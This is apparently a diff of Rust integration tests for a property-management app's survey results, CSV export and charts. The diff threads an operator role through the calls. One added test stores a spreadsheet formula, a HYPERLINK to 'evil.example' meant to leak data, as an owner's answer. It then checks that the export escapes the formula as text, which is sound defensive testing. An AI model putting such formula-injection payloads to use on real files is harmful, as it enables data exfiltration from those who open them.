@@ -6,6 +6,7 @@ use chrono::{DateTime, Duration, TimeZone, Utc};
 use chrono_tz::Asia::Shanghai;
 use propdesk::domain::survey::{Answer, Rating};
 use propdesk::i18n::Locale;
+use propdesk::services::people::Asker;
 use propdesk::services::survey_file;
 use propdesk::services::survey_results::{self, BuildingSummary, CHART_PANEL_HEIGHT, CHART_WIDTH, Detail, compute};
 use propdesk::store::surveys;
@@ -151,7 +152,7 @@ async fn answered() -> Seeded {
 async fn the_figures_count_only_submitted_responses() {
     let s = answered().await;
     let mut conn = s.db.pool.acquire().await.unwrap();
-    let r = compute(&mut conn, s.survey, None).await.unwrap().unwrap();
+    let r = compute(&mut conn, Asker::Operator, s.survey, None).await.unwrap().unwrap();
     assert_eq!(r.title, "2026年第四季度业主满意度调查");
     assert_eq!((r.invited, r.submitted, r.response_rate()), (5, 3, 60));
     assert_eq!(r.questions.len(), 5);
@@ -181,21 +182,21 @@ async fn the_figures_count_only_submitted_responses() {
 async fn one_building_shows_only_its_answers() {
     let s = answered().await;
     let mut conn = s.db.pool.acquire().await.unwrap();
-    let r = compute(&mut conn, s.survey, Some("2")).await.unwrap().unwrap();
+    let r = compute(&mut conn, Asker::Operator, s.survey, Some("2")).await.unwrap().unwrap();
     assert_eq!(r.building.as_deref(), Some("2"));
     assert_eq!((r.invited, r.submitted, r.response_rate()), (3, 1, 33));
     assert_eq!(r.questions[0].detail, Detail::Rating { counts: [0, 0, 0, 1, 0] });
     assert_eq!(r.questions[3].detail, Detail::Choices { counts: vec![1, 1, 1] });
     assert_eq!(r.questions[4].answered, 1);
     assert_eq!(r.buildings().len(), 2, "every building stays listed for the buttons");
-    assert!(compute(&mut conn, s.survey + 1000, None).await.unwrap().is_none());
+    assert!(compute(&mut conn, Asker::Operator, s.survey + 1000, None).await.unwrap().is_err());
 }
 
 #[tokio::test]
 async fn the_report_reads_as_an_admin_expects() {
     let s = answered().await;
     let mut conn = s.db.pool.acquire().await.unwrap();
-    let r = compute(&mut conn, s.survey, None).await.unwrap().unwrap();
+    let r = compute(&mut conn, Asker::Operator, s.survey, None).await.unwrap().unwrap();
     let zh = r.report().render(Locale::ZhCn);
     for expected in [
         "📊 2026年第四季度业主满意度调查",
@@ -228,7 +229,7 @@ async fn the_report_reads_as_an_admin_expects() {
 async fn the_csv_has_one_row_per_submitted_response() {
     let s = answered().await;
     let mut conn = s.db.pool.acquire().await.unwrap();
-    let bytes = survey_results::csv(&mut conn, s.survey, Shanghai).await.unwrap().unwrap();
+    let bytes = survey_results::csv(&mut conn, Asker::Operator, s.survey, Shanghai).await.unwrap().unwrap();
     let body = bytes.strip_prefix(b"\xEF\xBB\xBF").expect("a UTF-8 byte-order mark for Excel");
     let mut reader = csv::Reader::from_reader(body);
     let header: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
@@ -290,14 +291,29 @@ async fn the_csv_has_one_row_per_submitted_response() {
             ],
         ]
     );
-    assert!(survey_results::csv(&mut conn, s.survey + 1000, Shanghai).await.unwrap().is_none());
+    assert!(survey_results::csv(&mut conn, Asker::Operator, s.survey + 1000, Shanghai).await.unwrap().is_err());
+}
+
+#[tokio::test]
+async fn a_formula_an_owner_typed_reaches_the_csv_as_text() {
+    let s = seeded().await;
+    let link = r#"=HYPERLINK("http://evil.example/?leak","点击查看")"#;
+    let answers = [(0, stars(5)), (2, Answer::Choices(vec![0])), (4, Answer::Text(link.into()))];
+    answer(&s, s.response(WANG, "101"), &answers, Some(t0())).await;
+    let mut conn = s.db.pool.acquire().await.unwrap();
+    let bytes = survey_results::csv(&mut conn, Asker::Operator, s.survey, Shanghai).await.unwrap().unwrap();
+    let body = bytes.strip_prefix(b"\xEF\xBB\xBF").expect("a UTF-8 byte-order mark for Excel");
+    let mut reader = csv::Reader::from_reader(body);
+    let rows: Vec<Vec<String>> = reader.records().map(|r| r.unwrap().iter().map(String::from).collect()).collect();
+    assert_eq!(rows.len(), 1);
+    assert_eq!(rows[0][9], format!("'{link}"), "a leading quote keeps it text in Excel");
 }
 
 #[tokio::test]
 async fn the_chart_is_a_png_with_a_panel_per_rating_question() {
     let s = answered().await;
     let mut conn = s.db.pool.acquire().await.unwrap();
-    let r = compute(&mut conn, s.survey, None).await.unwrap().unwrap();
+    let r = compute(&mut conn, Asker::Operator, s.survey, None).await.unwrap().unwrap();
     assert!(r.has_chart());
     let png = r.chart_png().unwrap();
     assert_eq!(&png[..8], b"\x89PNG\r\n\x1a\n");
@@ -311,12 +327,12 @@ async fn the_chart_is_a_png_with_a_panel_per_rating_question() {
 async fn a_survey_nobody_answered_yet_reports_zeros() {
     let s = seeded().await;
     let mut conn = s.db.pool.acquire().await.unwrap();
-    let r = compute(&mut conn, s.survey, None).await.unwrap().unwrap();
+    let r = compute(&mut conn, Asker::Operator, s.survey, None).await.unwrap().unwrap();
     assert_eq!((r.invited, r.submitted, r.response_rate()), (5, 0, 0));
     assert!(r.questions.iter().all(|q| q.answered == 0));
     assert!(r.report().render(Locale::ZhCn).contains("暂无作答"));
     assert!(r.chart_png().is_ok());
-    let bytes = survey_results::csv(&mut conn, s.survey, Shanghai).await.unwrap().unwrap();
+    let bytes = survey_results::csv(&mut conn, Asker::Operator, s.survey, Shanghai).await.unwrap().unwrap();
     assert_eq!(csv::Reader::from_reader(&bytes[3..]).records().count(), 0);
 }
 
@@ -375,7 +391,7 @@ async fn the_cli_imports_lists_and_exports_a_survey() {
         .unwrap();
     assert!(out.status.success());
     let mut conn = s.db.pool.acquire().await.unwrap();
-    assert_eq!(out.stdout, survey_results::csv(&mut conn, s.survey, Shanghai).await.unwrap().unwrap());
+    assert_eq!(out.stdout, survey_results::csv(&mut conn, Asker::Operator, s.survey, Shanghai).await.unwrap().unwrap());
 
     let out = propdesk().args(["survey", "export", "999999"]).env("DATABASE_URL", &s.db.url).output().unwrap();
     assert_eq!(out.status.code(), Some(1));
